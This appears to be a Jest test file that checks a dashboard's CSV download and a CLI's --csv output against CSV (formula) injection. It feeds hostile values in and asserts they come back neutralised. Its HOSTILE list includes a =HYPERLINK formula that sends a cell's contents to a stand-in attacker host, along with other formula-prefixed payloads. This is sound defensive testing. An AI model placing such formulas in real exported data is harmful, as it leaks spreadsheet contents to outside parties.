import 'reflect-metadata';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { runCli } from '../../lib/cli/run-cli.js';
import { StoredChoiceAxis } from '../../lib/metricas/axes/stored-choice-axis.js';
import { MetricaRegistry } from '../../lib/metricas/metrica.registry.js';
import { SouvenirsModule } from '../../lib/souvenirs.module.js';
import { createTestDatabase, type TestDatabase } from '../support/databases.js';
import { captureIo } from '../integration/cli/cli-test-app.js';
import { dashboardOptions, startDashboardApp, type RunningDashboardApp } from './dashboard/dashboard-app.js';
import { get } from './dashboard/http-get.js';

// OWASP "CSV Injection" through the package's real CSV writers: a value a request brings
// into a StoredChoiceAxis, then the dashboard's `?format=csv` download an operator opens in
// a spreadsheet; and the CLI's `--csv`. Read back by a real RFC 4180 parser.

const FORMULA_START = /^[=+\-@\t\r]/;
const isNumber = (field: string): boolean => Number.isFinite(Number(field)) && String(Number(field)) === field;
const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', '+1+1', '-3', '@SUM(A1:A9)', '\t=1', '\r=1', 'a,"b"\nc'];

describe('CSV downloads and CLI output with hostile values (Express, SQLite, memory store)', () => {
  let database: TestDatabase;
  let running: RunningDashboardApp;

  beforeAll(async () => {
    database = await createTestDatabase('sqlite');
    const options = dashboardOptions({ public: true });
    running = await startDashboardApp(
      database.options,
      SouvenirsModule.forRoot({ ...options, metricas: [{ name: 'shop', axes: { ref: new StoredChoiceAxis() } }] }),
    );
  });
  afterAll(async () => {
    await running?.app.close();
    await database?.drop();
  });

  it('the axis download holds each value neutralised and parses back; counts stay numbers', async () => {
    const registry = running.app.get(MetricaRegistry);
    const shop = registry.get('shop');
    await fc.assert(
      fc.asyncProperty(fc.array(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '"', ',', 'x') , minLength: 1 })), { minLength: 1, maxLength: 4 }), async (refs) => {
        for (const ref of refs) await shop.kick({ ref });
        await registry.flush();
        const answer = await get(`${running.url}/souvenirs/api/metricas/shop/axes/ref?format=csv&scale=day&since=2026-03-15&until=2026-03-16`);
        expect(answer.contentType).toMatch(/^text\/csv/);
        const [header, ...rows] = parse(answer.body, { relax_column_count: false }) as string[][];
        expect(header.slice(0, 2)).toEqual(['ref', 'total']);
        const values = new Map(rows.map((row) => [row[0], row]));
        for (const ref of refs) {
          const row = values.get(FORMULA_START.test(ref) ? `'${ref}` : ref);
          expect(row).toBeDefined();
          // Counts are plain numbers (empty where the series chart leaves a rare value out).
          expect(row!.slice(1).every((field) => field === '' || isNumber(field))).toBe(true);
        }
        expect(rows.flat().filter((field) => FORMULA_START.test(field) && !isNumber(field))).toEqual([]);
      }),
      { numRuns: 25 },
    );
  });

  it('show-usage --csv neutralises what --datefmt makes of a date', async () => {
    const io = captureIo();
    const code = await runCli(running.app, ['show-usage', '--calendar', '--after=2026-02-01', '--csv', '--datefmt==HYPERLINK("%Y")'], io);
    expect({ code, stderr: io.stderr.text }).toEqual({ code: 0, stderr: '' });
    const [header, ...rows] = parse(io.stdout.text) as string[][];
    expect(header).toEqual(['month', 'start', 'end', 'registered', 'activated', 'active']);
    expect(rows.map((row) => row.slice(1, 3))).toEqual([["'=HYPERLINK(\"2026\")", "'=HYPERLINK(\"2026\")"], ["'=HYPERLINK(\"2026\")", "'=HYPERLINK(\"2026\")"]]);
  });
});
